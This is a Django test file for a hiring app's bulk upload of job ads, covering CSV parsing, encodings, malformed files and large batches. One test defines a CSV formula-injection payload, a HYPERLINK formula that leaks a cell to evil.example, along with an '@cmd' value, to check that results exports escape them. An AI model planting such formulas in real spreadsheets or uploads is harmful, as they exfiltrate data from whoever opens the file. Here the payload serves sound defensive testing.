import csv
import io

from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from hiring.models import BulkAnalysis
from tests.hiring.factories import DA_AD, SV_AD

EVIL = '=HYPERLINK("http://evil.example/?leak="&A3,"Åbn")'


def upload(name, content: str):
    return SimpleUploadedFile(name, content.encode())


def sheet(*rows) -> str:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue()


def test_the_results_csv_shows_a_malicious_ad_name_as_text(client, recruiter, django_capture_on_commit_callbacks):
    client.force_login(recruiter)
    content = sheet(["name", "text"], [EVIL, DA_AD], ["@cmd", SV_AD])
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post("/hiring/bulk/new/", {"files": [upload("ads.csv", content)]})
    run = BulkAnalysis.objects.get()
    download = client.get(f"/hiring/bulk/{run.id}/results.csv").content.decode("utf-8").removeprefix("\ufeff")
    rows = list(csv.reader(io.StringIO(download)))
    assert response.status_code == 302
    assert [row[0] for row in rows[1:]] == ["'" + EVIL, "'@cmd"]
    # Numbers stay numbers, including negative ones (the controller index runs from -100 to 100).
    index = rows[0].index("controller_index")
    assert all(-100 <= float(row[index]) <= 100 for row in rows[1:])  # float("'-3.0") would raise


def test_a_csv_row_without_text_is_refused_with_its_line_and_nothing_is_saved(recruiter, db):
    client = Client(raise_request_exception=False)
    client.force_login(recruiter)
    content = "name,text\nAarhus," + '"' + DA_AD + '"' + "\nKolding\nOdense,\n"
    response = client.post("/hiring/bulk/new/", {"files": [upload("ads.csv", content)]})
    assert response.status_code == 400
    body = response.content.decode()
    assert "ads.csv line 3: there is no text." in body
    assert "ads.csv line 4: there is no text." in body
    assert not BulkAnalysis.objects.exists()


def test_a_file_with_nul_characters_is_refused(recruiter, db):
    client = Client(raise_request_exception=False)
    client.force_login(recruiter)
    response = client.post("/hiring/bulk/new/", {"files": [upload("ad.txt", "Vi søger\x00 dig")]})
    assert response.status_code == 400
    assert "ad.txt contains NUL characters; save it as plain text." in response.content.decode()
    assert not BulkAnalysis.objects.exists()


def test_it_refuses_a_csv_with_an_unclosed_quotation_mark_with_a_message_not_a_server_error(recruiter, db):
    client = Client(raise_request_exception=False)
    client.force_login(recruiter)
    content = 'name,text\nAarhus,"' + DA_AD + " ord" * 40_000 + "\n"  # the quote is never closed
    response = client.post("/hiring/bulk/new/", {"files": [upload("ads.csv", content)]})
    assert response.status_code == 400
    assert "ads.csv line 2: a cell is too long; is a quotation mark not closed?" in response.content.decode()
    assert not BulkAnalysis.objects.exists()


def test_it_reads_a_csv_saved_by_a_nordic_excel_with_semicolons(recruiter, db):
    client = Client(raise_request_exception=False)
    client.force_login(recruiter)
    content = "\ufeffname;text\nAarhus;" + DA_AD + "\nGöteborg;" + SV_AD + "\n"
    response = client.post("/hiring/bulk/new/", {"files": [upload("ads.csv", content)]})
    assert response.status_code == 302
    assert list(BulkAnalysis.objects.get().items.order_by("position").values_list("name", flat=True)) == [
        "Aarhus",
        "Göteborg",
    ]


def test_it_names_the_service_types_in_the_results_table_not_their_codes(
    client, recruiter, django_capture_on_commit_callbacks
):
    client.force_login(recruiter)
    with django_capture_on_commit_callbacks(execute=True):
        client.post("/hiring/bulk/new/", {"files": [upload("aarhus.txt", DA_AD)]})
    page = client.get(f"/hiring/bulk/{BulkAnalysis.objects.get().id}/").content.decode()
    assert '<th scope="col" class="type-hard_worker">Hard Worker</th>' in page
    assert ">hard_worker<" not in page and ">accommodator<" not in page


def posted(client, recruiter, *files):
    client.force_login(recruiter)
    return client.post("/hiring/bulk/new/", {"files": list(files)})


def items() -> list[tuple]:
    return list(BulkAnalysis.objects.get().items.order_by("position").values_list("name", "text", "language"))


def test_it_reads_a_header_typed_with_capitals_and_spaces(client, recruiter):
    response = posted(client, recruiter, upload("ads.csv", f"Name; Text ;Language\nAarhus;{DA_AD};da\n"))
    assert response.status_code == 302
    assert items() == [("Aarhus", DA_AD, "da")]


def test_it_takes_a_language_written_in_capitals(client, recruiter):
    response = posted(client, recruiter, upload("ads.csv", f"name;text;language\nGöteborg;{SV_AD};SV\n"))
    assert response.status_code == 302
    assert items() == [("Göteborg", SV_AD, "sv")]


def test_it_reads_a_csv_whose_lines_end_in_a_carriage_return_alone(client, recruiter):
    # Excel for Mac's "CSV (Macintosh)"; was refused as "a cell is too long; is a quotation mark not closed?"
    response = posted(client, recruiter, upload("ads.csv", f"name;text\rAarhus;{DA_AD}\rGöteborg;{SV_AD}\r"))
    assert response.status_code == 302
    assert [name for name, _text, _language in items()] == ["Aarhus", "Göteborg"]


def test_it_names_a_row_with_a_blank_name_after_its_file_and_line(client, recruiter):
    response = posted(client, recruiter, upload("ads.csv", f"name;text\n  ;{DA_AD}\n"))
    assert response.status_code == 302
    assert items() == [("ads.csv:2", DA_AD, "")]  # was "", a row with no name in the results


def test_it_skips_the_empty_rows_a_spreadsheet_leaves_at_the_end(client, recruiter):
    response = posted(client, recruiter, upload("ads.csv", f"name;text;language\nAarhus;{DA_AD};\n;;\n ; ;\n"))
    assert response.status_code == 302  # was 400: "line 3: there is no text."
    assert items() == [("Aarhus", DA_AD, "")]


def test_it_tells_how_to_save_a_csv_excel_wrote_in_its_own_code_page(recruiter, db):
    client = Client(raise_request_exception=False)
    client.force_login(recruiter)
    cp1252 = SimpleUploadedFile("ads.csv", f"name;text\nÅrhus;{DA_AD}\n".encode("cp1252"))
    response = client.post("/hiring/bulk/new/", {"files": [cp1252]})
    assert response.status_code == 400
    assert "ads.csv is not UTF-8 text: save it as “CSV UTF-8” and try again." in response.content.decode()
    assert not BulkAnalysis.objects.exists()


def test_it_takes_last_year_s_150_ads_as_150_text_files(recruiter, db):
    client = Client(raise_request_exception=False)
    client.force_login(recruiter)
    files = [upload(f"annonce-{n}.txt", DA_AD + f" Annonce {n}.") for n in range(150)]
    response = client.post("/hiring/bulk/new/", {"files": files})
    assert response.status_code == 302  # was Django's "could not be handled" page from the 101st file
    assert BulkAnalysis.objects.get().total == 150
